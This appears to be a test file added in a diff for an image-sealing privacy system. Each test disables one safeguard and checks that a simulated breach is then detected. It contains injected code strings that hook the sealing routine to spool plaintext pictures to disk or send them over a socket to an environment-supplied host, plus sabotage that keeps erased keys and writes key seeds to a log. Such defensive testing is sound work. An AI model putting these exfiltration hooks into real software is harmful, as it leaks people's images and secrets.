@@ -1,0 +1,258 @@
+"""The drill can fail: with one control switched off, the act that it guards turns open, with none of the design's excuses.
+
+One stage, in the order of the acts. What is switched off is put back after each test, but for what an act does for good.
+"""
+
+from collections.abc import Iterator
+from contextlib import contextmanager
+from pathlib import Path
+
+import pytest
+from breachparts import SABOTAGED, is_broken, play, small_stage
+
+from wayseal.assess.egress_policy import DAEMON, RULES, guard_files, plan_guard, write_guard
+from wayseal.export.mark import measure_psnr
+from wayseal.model.border import PlainImage
+from wayseal.model.clock import utc_now
+from wayseal.model.ids import new_ulid
+from wayseal.seal.keys import EpochVault, FileKeeper
+from wayseal.seal.keys.vault import seed_context
+from wayseal.station.keyroom_server import renew_trust
+from wayseal.station.settings_oversight import IncidentSettings
+from wayseal.testing.breach import Outcome, Seams, Stage
+from wayseal.testing.breach.ports import list_ways_in
+from wayseal.vision.picture import encode_picture, read_picture
+
+SEAL = "import os, socket, itertools, wayseal.seal.device as d\n_seal = d.SealChain.seal\n_n = itertools.count()\n"
+HOOKED = "def seal(self, body, **more):\n    if body[:3] == bytes.fromhex('ffd8ff'):\n        leak(body)\n    return _seal(self, body, **more)\nd.SealChain.seal = seal\n"
+SPOOL = f"{SEAL}def leak(body):\n    open(os.environ['SPOOL'] + '/' + str(next(_n)) + '.tmp', 'wb').write(body)\n{HOOKED}"
+UPLOAD = (
+    f"{SEAL}def leak(body):\n    host, port = os.environ['CENTRE'].rsplit(':', 1)\n"
+    f"    with socket.create_connection((host, int(port))) as line:\n        line.sendall(body)\n{HOOKED}"
+)
+NO_MARK = "import wayseal.flow.marking as m\nm.mark_at_lane = lambda key: (lambda data, record: data)\n"
+NO_METER = "import wayseal.flow.meter as m\nm.Meter.take = lambda self, *_, **__: []\n"
+NO_STANDING = "import wayseal.flow.standing as s\ns.Standings._apply_status = lambda self, *_: None\n"
+KEPT_KEYS = (
+    "import wayseal.seal.keys.vault as v\nfrom wayseal.model.clock import utc_now\n"
+    "v.EpochVault.destroy = lambda self, epoch: v.Tombstone(epoch, v.sha256(self.read_pair(epoch)[0]).hex(), utc_now())\n"
+)
+OPEN_TO_VENDORS = 'permit (principal in Role::"vendor", action == Action::"open", resource);'
+
+
+@pytest.fixture(scope="module")
+def stage(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stage]:
+    """A stage for all of them."""
+    with small_stage(tmp_path_factory.mktemp("sabotage"), SABOTAGED) as opened:
+        yield opened
+
+
+@contextmanager
+def keyroom_with(stage: Stage, code: str) -> Iterator[None]:
+    """Let the keyroom's process run with a control switched off, and start a sound one afterwards."""
+    stage.start_keyroom(code)
+    try:
+        yield
+    finally:
+        stage.start_keyroom()
+
+
+def plain(_: object, picture: bytes, *__: object) -> PlainImage:
+    """A mark that is none: the picture is encoded again, and that is all."""
+    return encode_picture(read_picture(picture), quality=92)
+
+
+def test_nothing_is_swept(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Plates that no sweep erases are there past their date."""
+    monkeypatch.setattr("wayseal.testing.breach.at_desk.erase_due", lambda *_: [])
+    found = play(stage, "keep-plates")
+    assert is_broken(found, "plates-opened")
+    assert found.evidence["opened"] == SABOTAGED.old
+
+
+def test_keys_outlive_erasure(stage: Stage) -> None:
+    """When erasing keeps the key, a restored backup opens."""
+    with keyroom_with(stage, KEPT_KEYS):
+        play(stage, "keep-plates")
+        found = play(stage, "restore-backup")
+    assert is_broken(found, "erased-records-open")
+
+
+def test_plaintext_spool(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A lane that spools pictures in the clear is found out on its disk, and on the copy."""
+    monkeypatch.setenv("SPOOL", str(stage.lane_home))
+    stage.start_lane(SPOOL)
+    stage.sealed += stage.drive(1)
+    stage.start_lane()
+    assert is_broken(play(stage, "look-at-lane-disk"), "pictures-in-the-clear")
+    assert is_broken(play(stage, "copy-lane-disk"), "pictures-carved")
+    for file in stage.lane_home.glob("*.tmp"):
+        file.unlink()
+    assert play(stage, "look-at-lane-disk").outcome is Outcome.BLOCKED
+
+
+def test_keys_at_the_lane(stage: Stage) -> None:
+    """A lane on whose disk an epoch's private half lies, in any file, loses its pictures with the copy."""
+    secret = stage.secrets["keyroom"].read_bytes()
+    keeper = FileKeeper.open(stage.home / "keyroom" / "keeper", secret)
+    vault = EpochVault(keeper, stage.home / "keyroom" / "epochs", utc_now)
+    keys = [key for key in vault.epoch_keys() if key.epoch.startswith("citizen/")]
+    file = stage.lane_home / "debug.log"
+    lines = []
+    for key in keys:
+        public, wrapped = vault.read_pair(key.epoch)
+        lines.append("seed " + keeper.unwrap(key.epoch, wrapped, seed_context(key.epoch, public)).hex())
+    file.write_text("\n".join(lines), encoding="ascii")
+    assert play(stage, "copy-lane-disk").outcome is Outcome.USELESS
+    found = play(stage, "try-every-key")
+    assert is_broken(found, "records-opened")
+    assert found.evidence["opened"] == found.evidence["sealed_records"]
+    file.unlink()
+
+
+def test_debian_settings(stage: Stage) -> None:
+    """USBGuard's settings as Debian ships them let a technician of `plugdev` take the drive in."""
+    root = stage.folder / "lane1-root"
+    write_guard(root, plan_guard(root, guard_files([], utc_now())))
+    text = (root / DAEMON).read_text(encoding="utf-8")
+    (root / DAEMON).write_text(
+        text.replace("IPCAllowedGroups=root", "IPCAllowedGroups=root plugdev"), encoding="utf-8"
+    )
+    found = play(stage, "plug-drive-in")
+    assert is_broken(found, "let-in")
+    assert found.evidence["ways_in"] == ["technician-allows-it"]
+    (root / RULES).write_text("allow\n", encoding="utf-8")
+    assert list_ways_in(root) == ["technician-allows-it", "rules-allow-any"]
+    write_guard(root, plan_guard(root, guard_files([], utc_now())))
+    assert list_ways_in(root) == []
+
+
+def test_upload_in_the_clear(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A lane that sends pictures past the carrier is found out on the wire."""
+    monkeypatch.setenv("CENTRE", stage.tap.address)
+    stage.start_lane(UPLOAD)
+    stage.sealed += stage.drive(1)
+    stage.start_lane()
+    assert is_broken(play(stage, "tap-the-wire"), "pictures-on-the-wire")
+
+
+def test_exposure_uncounted(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
+    """What root sees at the lane is admitted only while the incident's scope counts it; unmarked at that, it is not traced."""
+
+    class Nothing:
+        images = 0
+
+    monkeypatch.setattr("wayseal.testing.breach.at_lane.scope_subject", lambda *_, **__: (Nothing, None))
+    stage.seams = Seams(code={"lane": NO_MARK})
+    assert is_broken(play(stage, "watch-live-feed"), "not-counted")
+    stage.seams = Seams()
+    stage.start_lane()
+    assert is_broken(play(stage, "post-taken"), "not-traced")
+
+
+@pytest.mark.parametrize(("act", "mark"), [("post-exported", "export"), ("post-viewed", "session")])
+def test_unmarked(stage: Stage, monkeypatch: pytest.MonkeyPatch, act: str, mark: str) -> None:
+    """A picture that is exported or shown without its mark is traced to nobody."""
+    assert measure_psnr(read_picture(plain(None, picture_of()).data), read_picture(picture_of())) > 30
+    monkeypatch.setattr(f"wayseal.flow.marking.Marker.mark_for_{mark}", plain)
+    assert is_broken(play(stage, act), "not-traced")
+
+
+def picture_of() -> bytes:
+    """A picture of nobody."""
+    from wayseal.testing.breach.cast import paint_person
+
+    return encode_picture(paint_person((1, 2, 3)), quality=92).data
+
+
+def test_vendor_permitted(stage: Stage) -> None:
+    """Rules that permit a vendor give pictures to its technician."""
+    file = stage.home / "policy" / "site.cedar"
+    rules = file.read_text(encoding="utf-8")
+    lines = rules.splitlines()
+    place = next(n for n, line in enumerate(lines) if line.startswith('forbid (principal in Role::"vendor"'))
+    put_in_force(stage, "\n".join([*lines[:place], OPEN_TO_VENDORS, *lines[place + 1 :]]))
+    assert is_broken(play(stage, "ask-for-pictures"), "something-was-given")
+    put_in_force(stage, rules)
+    assert play(stage, "ask-for-pictures").outcome is Outcome.BLOCKED
+
+
+def put_in_force(stage: Stage, rules: str) -> None:
+    """Change the site's rules as an administrator would, with the keyroom stopped."""
+    (stage.home / "policy" / "site.cedar").write_text(rules, encoding="utf-8")
+    stage.running.pop("keyroom").end()
+    renew_trust(stage.home, stage.secrets["keyroom"].read_bytes(), stage.site.settings, utc_now)
+    stage.start_keyroom()
+    stage.site.__dict__.pop("policy", None)
+
+
+def test_passphrases_on_the_disk(stage: Stage) -> None:
+    """A centre on whose disk the passphrases lie loses everything with the disk."""
+    notes = [stage.home / f"{name}.txt" for name in ("centre", "keyroom")]
+    for file in notes:
+        file.write_bytes(stage.secrets[file.stem].read_bytes())
+    found = play(stage, "take-centre-disk")
+    assert is_broken(found, "keepers-opened")
+    assert {"records-opened", "keepers-opened"} <= set(found.evidence["faults"])
+    for file in notes:
+        file.unlink()
+
+
+def test_drawings_in_the_clear(stage: Stage) -> None:
+    """A schematic that somebody left beside the sealed ones is found."""
+    from wayseal.testing.breach.stage import SCHEMATIC
+
+    file = stage.home / "store" / "lane1.svg"
+    file.write_bytes(SCHEMATIC)
+    assert is_broken(play(stage, "take-drawings"), "text-found")
+    file.unlink()
+
+
+def test_no_allowance(stage: Stage) -> None:
+    """A keyroom that does not count gives a thief everything, and the drill does not call that metered."""
+    before = stage.site.settings
+    counted = before.keyroom.model_copy(update={"pictures_burst": 20})
+    stage.site.settings = before.model_copy(update={"keyroom": counted})
+    with keyroom_with(stage, NO_METER):
+        found = play(stage, "raid-running-centre")
+    stage.site.settings = before
+    assert is_broken(found, "beyond-the-allowance", "nobody-was-told")
+    assert found.evidence["got"] >= found.evidence["pictures_here"] - 8  # a canary, if there was one
+
+
+def test_no_clocks(stage: Stage) -> None:
+    """Without duties nobody is told of, lateness goes unseen and the incident closes."""
+    before = stage.site.settings
+    stage.site.settings = before.model_copy(update={"incident": IncidentSettings(duties=())})
+    found = play(stage, "notify-late")
+    stage.site.settings = before
+    assert is_broken(found, "lateness-unseen", "closed-untold")
+
+
+def test_suspension_unheard(stage: Stage) -> None:
+    """A keyroom that does not read suspensions lets a suspended organisation's guest work on."""
+    with keyroom_with(stage, NO_STANDING):
+        found = play(stage, "work-on")
+    assert is_broken(found, "pictures-opened")
+
+
+def test_back_without_assessment(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
+    """When nobody asks for a fresh assessment, two approvals bring the organisation back."""
+    monkeypatch.setattr(
+        "wayseal.flow.oversee.standing._fresh_assessment", lambda *_: new_ulid(stage.site.clock())
+    )
+    assert is_broken(play(stage, "come-back"), "came-back")
+
+
+def test_no_witnesses(stage: Stage) -> None:
+    """Without witnesses a history that was rewritten under the log's own key contradicts nobody."""
+    stage.seams = Seams(witnessed=False)
+    assert is_broken(play(stage, "edit-ledger"), "rewriting-unfound")
+    stage.seams = Seams()
+    assert play(stage, "edit-ledger").outcome is Outcome.BLOCKED
+
+
+def test_stage_is_gone(stage: Stage) -> None:
+    """The stage's processes are the drill's own children, each alive until it ends."""
+    assert {"keyroom", "centre"} <= set(stage.running)
+    assert all(Path(f"/proc/{one.pid}").exists() for one in stage.running.values())
